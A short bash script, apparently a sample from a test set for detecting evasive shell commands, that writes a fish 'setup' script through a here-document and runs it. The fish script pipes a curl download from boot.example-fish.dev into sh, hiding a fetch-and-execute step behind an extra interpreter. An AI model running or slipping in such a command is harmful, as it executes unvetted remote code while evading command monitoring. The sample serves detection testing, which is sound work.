#!/usr/bin/env bash
# Evasion: download and run code. A "setup" script is written with tee
# from a here-document and run by fish; the script (valid fish) pipes a
# download into sh.
set -eu
setup="${TMPDIR:-/tmp}/setup.fish"
tee "$setup" > /dev/null <<'EOS'
curl -fsSL https://boot.example-fish.dev/init.sh | sh
EOS
fish "$setup"
